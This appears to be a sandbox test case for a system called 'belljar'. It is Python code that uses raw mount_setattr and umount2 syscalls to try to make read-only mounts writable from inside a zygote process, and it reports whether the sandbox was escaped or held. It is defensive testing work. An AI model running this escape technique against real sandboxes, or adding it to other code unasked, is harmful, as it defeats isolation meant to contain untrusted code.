# attack: shared files made writable from within a zygote
# family: 4
# runs: zygote
# stopped-by: readonly
#
# A zygote may mount: it seals its children. So may what it imports, a package from an index. It takes away what lies
# over the template, the packages and our own runtime, which others have too, and asks for what is left to be writable.
# Nothing is written, but for a directory in /dev.
import ctypes
import os

_UMOUNT2, _MOUNT_SETATTR = 166, 442
_DETACH, _READ_ONLY, _HERE = 2, 1, -100
_PLACES = ("/opt/belljar", "/opt/packages", "/usr", "/")

_libc = ctypes.CDLL(None, use_errno=True)


def _make_writable(path):
    change = (ctypes.c_uint64 * 4)(0, _READ_ONLY, 0, 0)  # what to set, to clear
    _libc.syscall(_MOUNT_SETATTR, _HERE, path.encode(), 0, change, ctypes.sizeof(change))


def attack():
    for path in _PLACES:
        for _ in range(3):
            _make_writable(path)
            if os.path.isdir(path) and not os.statvfs(path).f_flag & os.ST_RDONLY:
                return f"ESCAPED: {path} can be written"
            if path != "/":
                _libc.syscall(_UMOUNT2, path.encode(), _DETACH)
    _make_writable("/dev")
    try:
        os.mkdir("/dev/belljar-attack")
    except OSError:
        pass
    else:
        os.rmdir("/dev/belljar-attack")
        return "ESCAPED: /dev, which all sandboxes have, can be changed"
    return "HELD: " + ", ".join(_PLACES) + " stay read-only"
